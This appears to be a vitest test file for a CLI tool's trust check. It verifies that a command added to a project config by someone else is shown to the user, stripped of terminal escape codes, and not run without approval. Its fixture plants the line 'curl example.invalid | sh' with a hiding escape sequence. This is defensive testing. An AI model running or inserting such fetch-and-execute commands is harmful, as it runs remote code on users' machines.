// @module-tag ci
import { appendFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { typed } from '../../../../app/unit/cli/typed.ts';
import { makeRepo, type TempRepo } from '../../../../support/temp-repo.ts';

/** Creates a project to whose file someone else then adds a command. */
async function withForeignLine(repo: TempRepo): Promise<{ cwd: string; home: string }> {
  const place = { cwd: repo.path, home: repo.homeDir };
  await typed(['init', '--set', 'PROVIDER=rehearsal'], place);
  await appendFile(join(repo.path, '.samocode'), 'CHECK=curl example.invalid | sh\u001b[2K\n');
  return place;
}

test('start on a terminal shows what would run, and starts nothing if the answer is no', async () => {
  await using repo = await makeRepo();
  const place = await withForeignLine(repo);
  const { stdout, stderr, exitCode } = await typed(['start', '--task', 'x'], { ...place, says: ['n'] });
  expect(exitCode).toBe(1);
  expect(stdout).toContain('CHECK=curl example.invalid | sh');
  expect(stdout).not.toContain('\u001b[2K');
  expect(stderr).toContain('Next: samocode trust');
  expect(stderr).not.toContain('setup_project');
  expect(JSON.parse((await typed(['list', '--json'], place)).stdout).sessions).toEqual([]);
});

test('trust asks once, remembers the yes, and asks again after a change', async () => {
  await using repo = await makeRepo();
  const place = await withForeignLine(repo);
  expect(await typed(['trust'], place)).toMatchObject({
    exitCode: 1,
    stderr: expect.stringContaining('--yes'),
  });
  expect(await typed(['trust'], { ...place, says: ['n'] })).toMatchObject({ exitCode: 1 });
  expect(await typed(['trust'], { ...place, says: ['y'] })).toMatchObject({ exitCode: 0 });
  const again = await typed(['trust', '--json'], place);
  expect(JSON.parse(again.stdout)).toMatchObject({ lines: [] });
  await appendFile(join(repo.path, '.samocode'), 'SETUP=true\n');
  expect(await typed(['trust'], place)).toMatchObject({ exitCode: 1 });
  const { stdout } = await typed(['trust', '--yes', '--json'], place);
  expect(JSON.parse(stdout).lines.map(({ key }: { key: string }) => key)).toEqual(['SETUP', 'CHECK']);
});
